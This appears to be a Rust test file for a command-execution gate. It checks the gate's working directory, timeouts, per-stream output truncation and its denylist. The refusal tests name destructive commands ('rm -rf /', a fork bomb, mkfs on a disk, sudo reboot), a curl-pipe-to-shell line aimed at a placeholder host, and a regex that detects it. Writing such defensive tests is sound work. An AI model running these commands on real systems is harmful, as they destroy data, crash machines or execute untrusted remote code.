#![cfg(unix)]

use anyhow::Result;
use nexus_gate::{CommandGate, DangerPattern, GateError};
use std::time::{Duration, Instant};
use tempfile::TempDir;

fn gate_in(dir: &TempDir) -> CommandGate {
    CommandGate::new(dir.path())
}

#[tokio::test]
async fn refused_commands_never_spawn() -> Result<()> {
    let dir = TempDir::new()?;
    let gate = gate_in(&dir);

    for cmd in ["rm -rf /", ":(){ :|:& };:", "mkfs.ext4 /dev/sda1", "sudo reboot"] {
        let err = gate.execute(cmd, 1_000, 1_024).await.unwrap_err();
        assert!(err.is_refusal(), "{cmd}: {err}");
    }
    assert_eq!(gate.spawn_count(), 0);
    Ok(())
}

#[tokio::test]
async fn runs_in_the_configured_working_directory() -> Result<()> {
    let dir = TempDir::new()?;
    std::fs::write(dir.path().join("marker.txt"), "present")?;
    let gate = gate_in(&dir);

    let output = gate.execute("cat marker.txt && echo oops >&2", 5_000, 4_096).await?;
    assert!(output.success());
    assert_eq!(output.stdout, "present");
    assert_eq!(output.stderr.trim(), "oops");
    assert_eq!(gate.spawn_count(), 1);
    Ok(())
}

#[tokio::test]
async fn nonzero_exit_is_reported_not_raised() -> Result<()> {
    let dir = TempDir::new()?;
    let gate = gate_in(&dir);

    let output = gate.execute("exit 3", 5_000, 1_024).await?;
    assert_eq!(output.exit_code, Some(3));
    assert!(!output.success());
    assert_eq!(output.exit_summary(), "exit 3");
    Ok(())
}

#[tokio::test]
async fn output_is_truncated_with_marker() -> Result<()> {
    let dir = TempDir::new()?;
    let gate = gate_in(&dir);

    let output = gate
        .execute("head -c 100000 /dev/zero | tr '\\0' 'x'", 5_000, 64)
        .await?;
    assert!(output.success());
    assert!(output.stdout_truncated);
    assert!(output.stdout.starts_with(&"x".repeat(64)));
    assert!(output.stdout.contains("[truncated 99936 bytes]"));
    Ok(())
}

#[tokio::test]
async fn each_stream_gets_its_own_output_cap() -> Result<()> {
    let dir = TempDir::new()?;
    let gate = gate_in(&dir);

    let output = gate
        .execute("printf 'aaaaaaaaaa'; printf 'bbbbbbbbbbbb' >&2", 5_000, 10)
        .await?;
    assert!(!output.stdout_truncated);
    assert_eq!(output.stdout, "a".repeat(10));
    assert!(output.stderr_truncated);
    assert!(output.stderr.starts_with(&"b".repeat(10)));
    assert!(output.stderr.contains("[truncated 2 bytes]"), "{}", output.stderr);
    Ok(())
}

#[tokio::test]
async fn timeout_kills_the_process_group() -> Result<()> {
    let dir = TempDir::new()?;
    let gate = gate_in(&dir);

    let started = Instant::now();
    let err = gate
        .execute("sleep 30 & sleep 30; echo never", 300, 1_024)
        .await
        .unwrap_err();
    assert!(matches!(err, GateError::Timeout { timeout_ms: 300 }), "{err}");
    assert!(started.elapsed() < Duration::from_secs(10));
    Ok(())
}

#[tokio::test]
async fn extra_patterns_extend_the_denylist() -> Result<()> {
    let dir = TempDir::new()?;
    let gate = gate_in(&dir)
        .with_extra_patterns([DangerPattern::new("curl-pipe-shell", r"curl\s.*\|\s*(ba)?sh")?]);

    match gate.execute("curl https://x.test/install | sh", 1_000, 1_024).await {
        Err(GateError::Refused { pattern }) => assert_eq!(pattern, "curl-pipe-shell"),
        other => panic!("unexpected: {other:?}"),
    }
    assert_eq!(gate.spawn_count(), 0);
    Ok(())
}
